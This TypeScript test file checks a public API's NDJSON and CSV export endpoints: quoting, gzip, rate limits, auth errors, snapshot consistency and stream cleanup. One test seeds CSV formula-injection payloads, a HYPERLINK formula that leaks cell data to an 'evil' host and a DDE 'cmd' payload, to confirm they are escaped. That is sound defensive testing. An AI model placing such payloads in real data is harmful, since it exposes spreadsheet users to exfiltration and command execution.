import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { type IncomingMessage, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { sql } from 'kysely';
import { importFile } from '../../../src/import/import.ts';
import {
  bearer,
  captureLog,
  createTestContext,
  STORES,
  seedAccount,
  seedIncidents,
  seedKey,
  seedManyIncidents,
  type TestContext,
} from '../../helpers.ts';
import { parseCsv } from '../../strict-csv.ts';

const API = '/api/v1/public';
const RESOURCES = ['incidents', 'users', 'departments', 'locations'] as const;
const T = '2025-03-01T10:00:00.000Z';
/** A value that needs every rule of CSV quoting, and characters beyond ASCII. */
const TRICKY = 'Dock 3, "north"\r\nline two\nÅsa – 東京 🚧';

type Row = Record<string, unknown>;

/** CSV rows as the list's objects would be written: every value as text, null as empty. */
const asCsv = (rows: Row[]) =>
  rows.map((row) => Object.values(row).map((v) => (v === null ? '' : String(v))));

function parseNdjson(text: string): Row[] {
  if (text === '') return [];
  assert.ok(text.endsWith('\n'), 'every line ends in LF');
  return text
    .slice(0, -1)
    .split('\n')
    .map((line) => JSON.parse(line) as Row);
}

for (const store of STORES) {
  describe(`exports (${store})`, () => {
    let ctx: TestContext;
    let accountId: string;
    let rawKey: string;
    let base: string;
    const log = captureLog();

    before(async () => {
      ctx = await createTestContext(store, { LOG_LEVEL: 'warn' }, { logStream: log.stream });
      await ctx.app.listen({ port: 0, host: '127.0.0.1' });
      base = `http://127.0.0.1:${(ctx.app.server.address() as AddressInfo).port}`;
      accountId = await seedAccount(ctx.db, { rate_limit_per_hour: 100_000 });
      const other = await seedAccount(ctx.db);
      ({ rawKey } = await seedKey(ctx.db, accountId));
      // More than one chunk of reads, with every kind of value, and a line longer than a chunk's
      // first buffer.
      await seedIncidents(ctx.db, accountId, 4321, (i) => ({
        description: i % 3 === 0 ? null : i === 1 ? TRICKY.repeat(3000) : i % 3 === 1 ? TRICKY : `plain ${i}`,
        location: i % 2 === 0 ? null : 'Plant, "A"',
        incident_date: i % 5 === 0 ? null : '2025-01-02',
        severity_impact: i % 7 === 0 ? null : 3,
      }));
      await seedIncidents(ctx.db, other, 10);
      const user = (name: string, extra: Row = {}) => ({
        id: randomUUID(),
        account_id: accountId,
        name,
        email: `${randomUUID().slice(0, 8)}@example.com`,
        role: 'manager',
        department: name === 'bob' ? null : TRICKY,
        job_title: name === 'bob' ? null : 'Supervisor',
        active: 1,
        vendor_support: 0,
        created_at: T,
        ...extra,
      });
      await ctx.db
        .insertInto('users')
        .values([
          user('Charlie'),
          user('bob'),
          user('Bob'),
          user('alice'),
          user('Ivan', { active: 0 }),
          user('Vera', { vendor_support: 1 }),
          user('Otto', { account_id: other }),
        ])
        .execute();
      for (const table of ['departments', 'locations'] as const) {
        await ctx.db
          .insertInto(table)
          .values([
            ...['zeta', 'Alpha', 'beta', TRICKY].map((name) => ({
              id: randomUUID(),
              account_id: accountId,
              name,
              active: 1,
              created_at: T,
            })),
            { id: randomUUID(), account_id: accountId, name: 'Closed', active: 0, created_at: T },
            { id: randomUUID(), account_id: other, name: 'Foreign', active: 1, created_at: T },
          ])
          .execute();
      }
    });
    after(() => ctx.close());

    const get = (url: string, headers: Record<string, string> = {}) =>
      ctx.app.inject({ method: 'GET', url, headers: { ...bearer(rawKey), ...headers } });

    /** What the list endpoint shows, every page of it. */
    async function listed(resource: (typeof RESOURCES)[number]): Promise<Row[]> {
      if (resource !== 'incidents') return (await get(`${API}/${resource}`)).json().data;
      const rows: Row[] = [];
      for (let page = 1; ; page += 1) {
        const { data } = (await get(`${API}/incidents?limit=200&page=${page}`)).json().data;
        if (data.length === 0) return rows;
        rows.push(...data);
      }
    }

    const head = async () =>
      (
        await ctx.db
          .selectFrom('accounts')
          .select('data_version')
          .where('id', '=', accountId)
          .executeTakeFirstOrThrow()
      ).data_version;

    const decodeCursor = async (cursor: unknown) =>
      (await ctx.runtime.services.changeFeed.cursors()).decode(accountId, String(cursor));

    test('every resource in both formats: the list endpoint’s rows, order and fields, with the headers', async () => {
      const position = await head();
      for (const resource of RESOURCES) {
        const rows = await listed(resource);
        assert.ok(rows.length >= 4, resource);
        const fields = Object.keys(rows[0] as Row);

        const ndjson = await get(`${API}/exports/${resource}.ndjson`);
        assert.equal(ndjson.statusCode, 200);
        assert.equal(ndjson.headers['content-type'], 'application/x-ndjson; charset=utf-8');
        assert.equal(ndjson.headers['content-disposition'], `attachment; filename="${resource}.ndjson"`);
        assert.equal(ndjson.headers['content-encoding'], undefined);
        assert.equal(ndjson.headers.vary, 'Accept-Encoding');
        assert.ok(ndjson.headers['x-ratelimit-reset']);
        const lines = parseNdjson(ndjson.body);
        assert.deepEqual(lines, rows, resource);
        for (const line of lines) assert.deepEqual(Object.keys(line), fields);
        assert.equal(
          ndjson.body,
          lines.map((line) => `${JSON.stringify(line)}\n`).join(''),
          'each line as JSON.stringify writes it',
        );
        const cursor = await decodeCursor(ndjson.headers['x-changes-cursor']);
        assert.equal(cursor?.position, position, 'the snapshot’s head');
        assert.equal(cursor?.bound, position, 'a pass that starts anew at the next request');

        const csv = await get(`${API}/exports/${resource}.csv`);
        assert.equal(csv.statusCode, 200);
        assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8');
        assert.equal(csv.headers['content-disposition'], `attachment; filename="${resource}.csv"`);
        assert.equal((await decodeCursor(csv.headers['x-changes-cursor']))?.position, position);
        assert.deepEqual(parseCsv(csv.body), [fields, ...asCsv(rows)], resource);
      }
    });

    test('CSV quoting: commas, quotes, CR and LF quoted with quotes doubled, UTF-8 kept, null empty', async () => {
      const quoted = '"Dock 3, ""north""\r\nline two\nÅsa – 東京 🚧"';
      const departments = await get(`${API}/exports/departments.csv`);
      assert.match(departments.body, /^id,name,created_at\r\n/);
      assert.ok(departments.rawPayload.includes(Buffer.from(quoted)), 'the tricky name, quoted, as UTF-8');
      assert.ok(departments.body.includes(`,Alpha,${T}\r\n`), 'a plain name is not quoted');
      const users = (await get(`${API}/exports/users.csv`)).body.split('\r\n');
      const bob = users.find((line) => line.includes(',bob,'));
      assert.match(String(bob), /,manager,,,2025-03-01T10:00:00.000Z$/, 'null department and job title');
    });

    test('CSV: text cells that begin like a formula get a leading quote; NDJSON and other cells are untouched', async () => {
      const formulas = [
        '=HYPERLINK("http://evil/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        '-2+3',
        '@SUM(A1)',
        '\t=1',
        '\r=1',
      ];
      const guarded = (text: string) => `'${text}`;
      const account = await seedAccount(ctx.db);
      const key = (await seedKey(ctx.db, account)).rawKey;
      await seedIncidents(ctx.db, account, formulas.length, (i) => ({
        description: formulas[i],
        location: formulas[formulas.length - 1 - i],
        severity_likelihood: -2,
        incident_date: '2025-01-02',
      }));
      await ctx.db
        .insertInto('users')
        .values(
          formulas.map((formula, i) => ({
            id: randomUUID(),
            account_id: account,
            name: `${formula} ${i}`,
            email: `${i}@example.com`,
            role: 'manager',
            department: formula,
            job_title: 'Supervisor',
            active: 1,
            vendor_support: 0,
            created_at: T,
          })),
        )
        .execute();
      for (const table of ['departments', 'locations'] as const) {
        await ctx.db
          .insertInto(table)
          .values(
            formulas.map((name) => ({
              id: randomUUID(),
              account_id: account,
              name,
              active: 1,
              created_at: T,
            })),
          )
          .execute();
      }
      const text = new Set([
        'incident_number',
        'description',
        'status',
        'location',
        'name',
        'email',
        'role',
        'department',
        'job_title',
      ]);

      for (const resource of RESOURCES) {
        const exported = (format: string) =>
          ctx.app.inject({ url: `${API}/exports/${resource}.${format}`, headers: bearer(key) });
        const rows = parseNdjson((await exported('ndjson')).body);
        assert.equal(rows.length, formulas.length, resource);
        const [header, ...records] = parseCsv((await exported('csv')).body);
        assert.deepEqual(header, Object.keys(rows[0] as Row), resource);
        // Each CSV cell is the NDJSON value as text, with a leading quote exactly where a text
        // field begins with = + - @ TAB or CR.
        const expected = rows.map((row) =>
          Object.entries(row).map(([field, value]) => {
            if (value === null) return '';
            const written = String(value);
            return text.has(field) && /^[=+\-@\t\r]/.test(written) ? guarded(written) : written;
          }),
        );
        assert.deepEqual(records, expected, resource);
        // What the NDJSON carries is the stored text, untouched.
        const values = rows.flatMap((row) => Object.values(row));
        for (const formula of formulas) {
          assert.ok(
            values.some((value) => typeof value === 'string' && value.startsWith(formula)),
            `${resource}: ${JSON.stringify(formula)} in the NDJSON as stored`,
          );
        }
      }
      const [, first] = parseCsv((await get(`${API}/exports/incidents.csv`)).body);
      assert.ok(
        first !== undefined && !first.some((cell) => cell.startsWith("'")),
        'ordinary rows unchanged',
      );
      const incidents = parseCsv(
        (await ctx.app.inject({ url: `${API}/exports/incidents.csv`, headers: bearer(key) })).body,
      );
      const columns = incidents[0] ?? [];
      for (const row of incidents.slice(1)) {
        const cell = (name: string) => row[columns.indexOf(name)];
        assert.equal(cell('severity_likelihood'), '-2', 'a negative number stays a number');
        assert.equal(cell('severity_score'), '-6');
        assert.equal(cell('incident_date'), '2025-01-02');
        assert.ok(formulas.map(guarded).includes(String(cell('description'))));
      }
    });

    test('gzip when Accept-Encoding admits it, never when q=0', async () => {
      const plain = await get(`${API}/exports/incidents.ndjson`);
      const cases: [string, boolean][] = [
        ['gzip', true],
        ['br, gzip;q=0.5', true],
        ['*', true],
        ['x-gzip', true],
        ['gzip;q=0', false],
        ['gzip;q=0.000, *', false],
        ['*;q=0', false],
        ['identity', false],
        ['br', false],
      ];
      for (const [acceptEncoding, gzipped] of cases) {
        const res = await get(`${API}/exports/incidents.ndjson`, { 'accept-encoding': acceptEncoding });
        assert.equal(res.statusCode, 200, acceptEncoding);
        assert.equal(res.headers.vary, 'Accept-Encoding', acceptEncoding);
        assert.equal(res.headers['content-encoding'], gzipped ? 'gzip' : undefined, acceptEncoding);
        const body = gzipped ? gunzipSync(res.rawPayload) : res.rawPayload;
        assert.ok(body.equals(plain.rawPayload), acceptEncoding);
        if (gzipped) assert.ok(res.rawPayload.length * 3 < body.length, 'compressed');
      }
    });

    test('an export counts as one request', async () => {
      const before = Number((await get(`${API}/users`)).headers['x-ratelimit-remaining']);
      const exported = await get(`${API}/exports/incidents.csv`, { 'accept-encoding': 'gzip' });
      assert.equal(Number(exported.headers['x-ratelimit-remaining']), before - 1);
      const next = Number((await get(`${API}/users`)).headers['x-ratelimit-remaining']);
      assert.equal(next, before - 2);
    });

    test('HEAD: the headers of the export, no body', async () => {
      const res = await ctx.app.inject({
        method: 'HEAD',
        url: `${API}/exports/users.csv`,
        headers: bearer(rawKey),
      });
      assert.equal(res.statusCode, 200);
      assert.equal(res.body, '');
      assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
      assert.equal((await decodeCursor(res.headers['x-changes-cursor']))?.position, await head());
    });

    test('unknown names under /exports are the API’s 404, after the key checks', async () => {
      for (const path of ['incidents.xml', 'widgets.csv', 'incidents', 'INCIDENTS.csv', '', 'users.csv/x']) {
        const url = `${API}/exports/${path}`;
        const res = await get(url);
        assert.equal(res.statusCode, 404, url);
        assert.deepEqual(res.json(), { error: true, message: 'Not found' });
        const anonymous = await ctx.app.inject({ method: 'GET', url });
        assert.equal(anonymous.statusCode, 401, url);
        assert.equal(anonymous.json().error, 'API_KEY_REQUIRED');
      }
    });

    test('the key checks: 401, 403 plan and scope, 405, 429', async () => {
      const url = `${API}/exports/incidents.ndjson`;
      const missing = await ctx.app.inject({ method: 'GET', url });
      assert.equal(missing.json().error, 'API_KEY_REQUIRED');
      const unknown = await ctx.app.inject({ method: 'GET', url, headers: bearer(`svc_${'0'.repeat(40)}`) });
      assert.equal(unknown.json().error, 'API_KEY_INVALID');

      const planless = await seedAccount(ctx.db);
      const planlessKey = await seedKey(ctx.db, planless);
      await ctx.db.updateTable('accounts').set({ api_access: 0 }).where('id', '=', planless).execute();
      const refused = await ctx.app.inject({ method: 'GET', url, headers: bearer(planlessKey.rawKey) });
      assert.equal(refused.statusCode, 403);
      assert.equal(refused.json().error, 'FEATURE_NOT_AVAILABLE');

      const post = await ctx.app.inject({ method: 'POST', url, headers: bearer(rawKey) });
      assert.equal(post.statusCode, 403);
      assert.equal(post.json().error, 'INSUFFICIENT_SCOPE');
      const writer = await seedKey(ctx.db, accountId, { scope: 'read-write' });
      const put = await ctx.app.inject({ method: 'PUT', url, headers: bearer(writer.rawKey) });
      assert.equal(put.statusCode, 405);
      assert.equal(put.headers.allow, 'GET, HEAD');

      const limited = await seedAccount(ctx.db, { rate_limit_per_hour: 1 });
      const limitedKey = await seedKey(ctx.db, limited);
      assert.equal(
        (await ctx.app.inject({ method: 'GET', url, headers: bearer(limitedKey.rawKey) })).statusCode,
        200,
      );
      const over = await ctx.app.inject({ method: 'GET', url, headers: bearer(limitedKey.rawKey) });
      assert.equal(over.statusCode, 429);
      assert.equal(over.json().error, 'RATE_LIMIT_EXCEEDED');
    });

    describe('over a real connection, with a large set', () => {
      let large: string;
      let largeKey: string;

      before(async () => {
        // About 10 MB of NDJSON: far more than socket buffers hold while the client pauses.
        large = await seedAccount(ctx.db, { rate_limit_per_hour: 100_000 });
        ({ rawKey: largeKey } = await seedKey(ctx.db, large));
        await seedManyIncidents(ctx.databaseUrl, large, 20_000, (i) => ({
          description: `${i} ${'x'.repeat(400)}`,
        }));
      });

      /** Starts an export and resolves with the response once its first bytes are there, paused. */
      function startExport(path: string): Promise<{ response: IncomingMessage; first: Buffer }> {
        return new Promise((resolve, reject) => {
          const req = httpRequest(
            `${base}${API}/exports/${path}`,
            { headers: bearer(largeKey) },
            (response) => {
              response.once('data', (first: Buffer) => {
                response.pause();
                resolve({ response, first });
              });
            },
          );
          req.on('error', reject);
          req.end();
        });
      }

      function rest(response: IncomingMessage): Promise<Buffer> {
        return new Promise((resolve, reject) => {
          const chunks: Buffer[] = [];
          response.on('data', (chunk: Buffer) => chunks.push(chunk));
          response.on('end', () => resolve(Buffer.concat(chunks)));
          response.on('error', reject);
          response.resume();
        });
      }

      const listAll = async () => {
        const rows: Row[] = [];
        for (let page = 1; ; page += 1) {
          const res = await ctx.app.inject({
            url: `${API}/incidents?limit=200&page=${page}`,
            headers: bearer(largeKey),
          });
          const { data } = res.json().data;
          if (data.length === 0) return rows;
          rows.push(...data);
        }
      };

      test('one snapshot while an import commits mid-stream; the cursor holds the head of that snapshot', async () => {
        const before = await listAll();
        const { data_version: position } = await ctx.db
          .selectFrom('accounts')
          .select('data_version')
          .where('id', '=', large)
          .executeTakeFirstOrThrow();
        const { response, first } = await startExport('incidents.ndjson');
        assert.equal(response.statusCode, 200);

        // The oldest incidents, written last, change; new ones arrive, newest of all.
        const changed = before
          .slice(-3)
          .map((row) => ({ ...row, type: 'incident', account_id: large, description: 'changed' }));
        const added = [0, 1].map((n) => ({
          type: 'incident',
          id: randomUUID(),
          account_id: large,
          incident_number: `INC-2026-${n + 1}`,
          status: 'open',
          created_at: '2026-06-01T00:00:00.000Z',
        }));
        const file = join(tmpdir(), `${randomUUID()}.ndjson`);
        writeFileSync(file, [...changed, ...added].map((record) => JSON.stringify(record)).join('\n'));
        await importFile(ctx.commandLineDb, file);
        assert.equal((await listAll()).length, before.length + 2, 'the import is visible to the lists');

        const body = Buffer.concat([first, await rest(response)]).toString('utf8');
        assert.deepEqual(parseNdjson(body), before);
        const cursor = String(response.headers['x-changes-cursor']);
        const cursors = await ctx.runtime.services.changeFeed.cursors();
        assert.equal(cursors.decode(large, cursor)?.position, position, 'the head before the import');
        assert.equal(cursors.decode(accountId, cursor), null, 'bound to its account');
      });

      for (const format of ['csv', 'ndjson'] as const) {
        test(`other requests are answered while an export streams (${format})`, async () => {
          const events: string[] = [];
          const { response, first } = await startExport(`incidents.${format}`);
          const body = rest(response).then((buffer) => {
            events.push('export ended');
            return buffer;
          });
          // Over a socket of its own, as a client beside the export asks.
          const list = await fetch(`${base}${API}/users`, { headers: bearer(largeKey) });
          events.push('list answered');
          assert.equal(list.status, 200);
          const text = Buffer.concat([first, await body]).toString('utf8');
          assert.equal(
            format === 'csv' ? parseCsv(text).length : parseNdjson(text).length + 1,
            20_000 + 1 + 2,
          );
          assert.deepEqual(events, ['list answered', 'export ended']);
        });
      }

      test('a client that goes away releases the snapshot: later exports work, no connection is left behind', async () => {
        // More aborted exports than the PostgreSQL snapshot pool holds connections.
        for (let i = 0; i < 6; i += 1) {
          const { response } = await startExport(i % 2 === 0 ? 'incidents.ndjson' : 'incidents.csv');
          response.destroy();
        }
        if (store === 'postgres') {
          const deadline = Date.now() + 5000;
          for (;;) {
            const { rows } = await sql<{ n: number }>`
              select count(*)::int as n from pg_stat_activity
              where datname = current_database()
                and (state like 'idle in transaction%' or (query like 'COPY (%' and wait_event = 'ClientWrite'))`.execute(
              ctx.db,
            );
            if (rows[0]?.n === 0) break;
            assert.ok(Date.now() < deadline, `${rows[0]?.n} transactions still open`);
            await new Promise((resolve) => setTimeout(resolve, 50));
          }
        }
        const { response, first } = await startExport('incidents.ndjson');
        assert.equal(
          parseNdjson(Buffer.concat([first, await rest(response)]).toString('utf8')).length,
          20_002,
        );
      });

      test(
        'a store failure mid-stream ends the response abruptly, logged once',
        { skip: store !== 'postgres' },
        async () => {
          // CSV reads its rows chunk by chunk, so most of them are still unread when the client
          // pauses. (An NDJSON export of incidents is one COPY, which may have sent all 20,000 rows
          // into the socket buffers by then; test/db/snapshot.test.ts kills a COPY mid-stream.)
          const { response } = await startExport('incidents.csv');
          // The snapshot's connection is killed once it waits for the client to read on (until
          // then it may still be reading ahead).
          const deadline = Date.now() + 5000;
          for (;;) {
            const { rows } = await sql`
              select pg_terminate_backend(pid) from pg_stat_activity
              where datname = current_database() and state like 'idle in transaction%'`.execute(ctx.db);
            if (rows.length > 0) break;
            assert.ok(Date.now() < deadline, 'the snapshot transaction waits');
            await new Promise((resolve) => setTimeout(resolve, 20));
          }
          await assert.rejects(rest(response), /aborted/);
          const lines = log.lines.filter(
            (line) => line.msg === 'response terminated with an error with headers already sent',
          );
          assert.equal(lines.length, 1);
          const { response: next, first } = await startExport('incidents.ndjson');
          assert.equal(parseNdjson(Buffer.concat([first, await rest(next)]).toString('utf8')).length, 20_002);
        },
      );
    });
  });
}
